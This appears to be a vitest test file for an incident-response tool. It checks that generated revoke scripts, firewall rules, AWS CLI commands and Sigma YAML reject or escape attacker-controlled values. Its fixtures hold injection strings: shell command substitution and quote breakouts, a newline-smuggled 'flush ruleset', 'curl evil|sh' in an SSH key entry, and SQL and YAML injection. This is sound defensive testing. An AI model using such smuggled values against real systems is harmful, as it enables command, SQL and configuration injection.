/**
 * Mitigation artefacts carry attacker-controlled values into shell, nft and YAML. A value that does
 * not validate (an "address" with a newline and an nft statement, a user name with $(…) or '; rm)
 * never reaches a command: it is listed as one escaped comment line. Valid values are single-quoted.
 * The scripts are checked by sh -n and nft -c, and run against a stub `aws` that records its
 * arguments, so quoting is proven by what a real shell passes, not by reading the text.
 */
import { spawnSync } from 'node:child_process';
import { chmodSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { buildPlan } from '../../src/export/mitigations/plan.js';
import { renderAwsCli, renderBlocklist, renderIptables, renderNft } from '../../src/export/mitigations/network.js';
import { renderRevokeSh } from '../../src/export/mitigations/revoke.js';
import { buildSigma, renderSigma } from '../../src/export/mitigations/sigma.js';
import { yamlString } from '../../src/export/mitigations/yaml.js';
import { tempDir } from '../helpers/cli.js';
import { findings } from '../helpers/report-findings.js';

const SUBST = '$(touch /tmp/dwell-pwned)';
const QUOTE = "x'; touch /tmp/dwell-pwned; echo '";
const NL_IP = '198.51.100.66\n}\nflush ruleset\ntable inet x {';

const hostile = findings({
  ips: [
    { ip: '::ffff:203.0.113.9', roles: ['login_source'], first_seen: null, last_seen: null },
    { ip: '2001:DB8::0:1', roles: ['exfil_destination'], first_seen: null, last_seen: null },
    { ip: NL_IP, roles: ['scanner'], first_seen: null, last_seen: null },
  ],
  backdoors: [
    { kind: 'local_user', value: SUBST, host: 'web-01', created_at: null, created_by: null, used_after_containment: false, attempted_after_containment: false, event_ids: [] },
    { kind: 'iam_user', value: `arn:aws:iam::111122223333:user/${QUOTE}`, host: null, created_at: null, created_by: null, used_after_containment: false, attempted_after_containment: false, event_ids: [] },
    { kind: 'iam_user', value: 'arn:aws:iam::111122223333:user/support-audit', host: null, created_at: null, created_by: null, used_after_containment: false, attempted_after_containment: false, event_ids: [] },
    { kind: 'ssh_authorized_key', value: '/root/.ssh/authorized_keys: ssh-ed25519 AAAA x\ncurl evil|sh', host: 'web-01', created_at: null, created_by: null, used_after_containment: false, attempted_after_containment: false, event_ids: [3] },
    { kind: 'db_role', value: 'x"; DROP TABLE users; --', host: 'db-01', created_at: null, created_by: null, used_after_containment: false, attempted_after_containment: false, event_ids: [] },
  ],
  credentials_to_rotate: [
    { kind: 'access_key', value: 'AKIAIOSFODNN7EXAMPLE', host: null, reason: 'used by the attacker', event_ids: [] },
    { kind: 'access_key', value: `AKIA${SUBST}`, host: null, reason: 'used by the attacker', event_ids: [] },
    { kind: 'local_password', value: 'deploy', host: 'web-01', reason: 'account used by the attacker', event_ids: [2] },
  ],
});
const plan = buildPlan(hostile);
const ctx = { generatedAt: hostile.generated_at };

function commandLines(text: string): string[] {
  return text.split('\n').filter((l) => l.trim() !== '' && !l.trimStart().startsWith('#'));
}

function has(cmd: string): boolean {
  return spawnSync('sh', ['-c', `command -v ${cmd}`]).status === 0;
}

describe('mitigation artefacts with hostile values', () => {
  const tmp = tempDir('dwell-mitigations-');
  afterAll(() => tmp.cleanup());

  it('keeps only values that validate: canonical addresses, key ids, plain names; the rest are listed as rejected', () => {
    expect(plan.addresses.map((a) => a.ip)).toEqual(['203.0.113.9', '2001:db8::1']);
    expect(plan.keysUsed).toEqual(['AKIAIOSFODNN7EXAMPLE']);
    expect(plan.iamUsersCreated).toEqual(['support-audit']);
    expect(plan.localUsersCreated).toEqual([]);
    expect(plan.dbRolesCreated).toEqual([]);
    expect(plan.rejected.map((r) => r.value).sort()).toEqual([NL_IP, `AKIA${SUBST}`, `arn:aws:iam::111122223333:user/${QUOTE}`, SUBST, 'x"; DROP TABLE users; --'].sort());
  });

  it('puts no rejected value in any command line, and every comment stays on its line', () => {
    for (const text of [renderBlocklist(plan, ctx), renderNft(plan, ctx), renderIptables(plan, ctx), renderAwsCli(plan, ctx), renderRevokeSh(plan, ctx)]) {
      const cmds = commandLines(text).join('\n');
      for (const bad of ['flush ruleset', 'touch /tmp/dwell-pwned', 'DROP TABLE', 'curl evil']) expect(cmds).not.toContain(bad);
    }
    const revoke = renderRevokeSh(plan, ctx);
    expect(revoke).toContain('# authorized_keys on web-01 (evidence: /ev/auth.log:3): /root/.ssh/authorized_keys: ssh-ed25519 AAAA x\\ncurl evil|sh');
    expect(renderNft(plan, ctx)).toContain('# not used (not an IPv4 or IPv6 address): 198.51.100.66\\n}\\nflush ruleset\\ntable inet x {');
  });

  it('writes shell scripts sh -n accepts, that refuse to run unreviewed, and pass each value as one exact argument', () => {
    const dir = join(tmp.path, 'sh');
    mkdirSync(join(dir, 'bin'), { recursive: true });
    // A stub aws: records its arguments one per line, answers "owner" to look-ups.
    writeFileSync(join(dir, 'bin', 'aws'), `#!/bin/sh\nfor a in "$@"; do printf '%s\\n' "$a"; done >> "${join(dir, 'aws.log')}"\necho '---' >> "${join(dir, 'aws.log')}"\necho owner\n`);
    chmodSync(join(dir, 'bin', 'aws'), 0o755);
    const script = join(dir, 'revoke.sh');
    writeFileSync(script, renderRevokeSh(plan, ctx));
    for (const text of [renderRevokeSh(plan, ctx), renderIptables(plan, ctx), renderAwsCli(plan, ctx)]) {
      const f = join(dir, 'check.sh');
      writeFileSync(f, text);
      const r = spawnSync('sh', ['-n', f], { encoding: 'utf8' });
      expect(r.status, r.stderr).toBe(0);
    }
    const unreviewed = spawnSync('sh', [script], { encoding: 'utf8', env: { PATH: `${join(dir, 'bin')}:/usr/bin:/bin` } });
    expect(unreviewed.status).toBe(1);
    expect(unreviewed.stderr).toContain('DWELL_REVIEWED=yes');
    const run = spawnSync('sh', [script], { encoding: 'utf8', env: { PATH: `${join(dir, 'bin')}:/usr/bin:/bin`, DWELL_REVIEWED: 'yes' } });
    expect(run.status, run.stderr).toBe(0);
    const calls = readFileSync(join(dir, 'aws.log'), 'utf8').split('---\n').filter(Boolean).map((c) => c.trimEnd().split('\n'));
    expect(calls).toContainEqual(['iam', 'update-access-key', '--access-key-id', 'AKIAIOSFODNN7EXAMPLE', '--status', 'Inactive', '--user-name', 'owner']);
    expect(calls).toContainEqual(['iam', 'delete-user', '--user-name', 'support-audit']);
    expect(calls.flat().join('\n')).not.toContain('pwned');
  });

  it('writes an nftables ruleset nft -c accepts (skipped, saying so, where nft cannot check)', (t) => {
    if (!has('nft')) {
      console.warn('mitigations: nft is not installed; the nft -c check is skipped');
      return t.skip();
    }
    const f = join(tmp.path, 'block.nft');
    writeFileSync(f, renderNft(plan, ctx));
    const r = spawnSync('nft', ['-c', '-f', f], { encoding: 'utf8' });
    if (r.status !== 0 && /Operation not permitted|Permission denied/.test(r.stderr)) {
      console.warn(`mitigations: nft -c is not permitted here (${r.stderr.trim()}); skipped`);
      return t.skip();
    }
    expect(r.status, r.stderr).toBe(0);
  });

  it('writes Sigma YAML whose strings stay strings: a hostile user name cannot add a key', () => {
    const f = findings({ case: { events: 1, evidence_files: 1, sources: ['auth_log', 'cloudtrail', 'vpc_flow'], from: null, to: null } });
    const p = buildPlan(f);
    p.iamUsersCreated.push('a"\nlevel: informational\nx: "');
    const yaml = renderSigma(buildSigma(p, f, []), f.generated_at);
    expect(yaml).not.toMatch(/^level: informational/m);
    expect(yaml).toContain('"a\\"\\nlevel: informational\\nx: \\""');
  });

  it('escapes in YAML strings what a terminal or a YAML parser must not see raw (C1, bidi, line separators)', () => {
    expect(yamlString('a\u202eb\u0085c\u2028d\x1be')).toBe('"a\\u202eb\\u0085c\\u2028d\\u001be"');
  });
});
